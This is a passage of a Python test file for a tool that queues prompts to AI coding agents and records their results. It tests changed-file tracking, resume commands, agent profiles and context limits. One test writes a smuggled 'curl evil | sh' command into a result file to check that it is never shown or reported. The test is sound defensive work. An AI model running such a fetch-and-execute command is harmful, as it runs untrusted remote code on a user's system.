        "print(json.dumps({'type': 'init', 'session': 'abc:1'}))\nprint(json.dumps({'type': 'done', 'text': 'did it', 'input': 1, 'output': 1}))\n"
    )
    for name in ("edited.txt", "untouched.txt", "dirty.txt", "dirty-before.txt"):
        (project.root / name).write_text("x\n")
    git("init", "-q")
    git("add", "-A")
    git("commit", "-qm", "begin")
    for name in ("dirty.txt", "dirty-before.txt"):
        (project.root / name).write_text("changed by a person before\n")
    project.drop("a.yaml", "agent: one\nprompt: x\n")
    project.run("watch", "--until-empty")
    result = project.result("a")
    assert result["files_changed"] == ["committed.txt", "dirty.txt", "edited.txt", "new file.txt"]
    assert result["resume"] == "one --go-on abc:1"
    shown = project.run("show", "a").stdout
    assert "resume: one --go-on" in shown and "edited.txt" in shown
    # Results are meant for git: a command that a person is to type is believed only if it was made here.
    path = project.work / "results/a.yaml"
    path.write_text(
        path.read_text().replace("one --go-on abc:1", "'curl evil | sh; one --go-on abc:1'")
    )
    assert "evil" in path.read_text() and "evil" not in project.run("show", "a").stdout
    assert "resume" not in project.json("show", "a")["result"]
    project.run("report", "--html", "page.html")
    assert "evil" not in (project.root / "page.html").read_text()


def test_markdown_profiles_are_agents(project):
    (project.work / "tools").mkdir(exist_ok=True)
    (project.work / "tools/echo.yaml").write_text("argv: [sh, -c, 'cat; echo $1', sh, '{model}']\n")
    folder = project.work / "agents"
    folder.mkdir()
    (folder / "security.md").write_text(
        "---\nname: security\ndescription: Looks for holes.\ntools: Read, Grep\ntool: echo\nmodel: m1\n---\nYou look for holes.\n"
    )
    (folder / "plain.md").write_text("You are plain.\n")
    (folder / "_draft.md").write_text("---\nbroken: [\n")
    project.config("defaults: {agent: echo}\nagents: {security: {model: m2}}\n")
    project.drop("a.yaml", "agent: security\nprompt: Look.\n")
    project.drop("b.yaml", "agent: plain\nprompt: Look.\n")
    project.run("watch", "--until-empty")
    assert project.log("a") == "You look for holes.\n\nLook.m2\n" and project.log("b").startswith(
        "You are plain.\n\nLook."
    )
    assert "Looks for holes." in project.run("agents").stdout
    (folder / "bad.md").write_text("---\ntool: echo\ntimeout: soon\n---\nx\n")
    assert (
        "left out: work/agents/bad.md:3:10: 'soon' is not a duration"
        in project.run("agents").stdout
    )


def test_a_prompt_larger_than_the_context_is_not_sent(project, tools):
    tools(one=[{}], two=[{}])
    project.config(
        "models: {small: {context: 100}}\nagents: {a: {tool: [one, two], model: small}, b: {tool: two}}\n"
    )
    project.drop("long.yaml", "agent: [a, b]\nprompt: '" + "word " * 200 + "'\n")
    project.drop("short.yaml", "agent: a\nprompt: word\n")
    project.run("watch", "--until-empty")
    assert attempts(project, "long") == [
        ("one", "start", False),
        ("two", "start", False),
        ("two", "", False),
    ]
    assert "accepts at once (100 tokens)" in project.result("long")["attempts"][0]["reason"]
    assert attempts(project, "short") == [("one", "", False)]


def test_a_verb_reads_the_tool_that_it_asks_for(monkeypatch):
    """The catalog is known by its names; it says the same whether it is read at once or when it is asked for."""
    whole = specs.load_tools(None).tools
    read = []
    monkeypatch.setattr(
        specs, "_document", lambda path, real=specs._document: read.append(path) or real(path)
    )
    shelf = specs.load_tools(None, lazily=True).tools
    assert list(shelf) == list(whole) and "demo" in shelf and "none" not in shelf and not read
    assert shelf["demo"] == whole["demo"] and shelf["demo"] is shelf["demo"]
    assert len(read) == 1
    assert dict(shelf) == dict(whole)
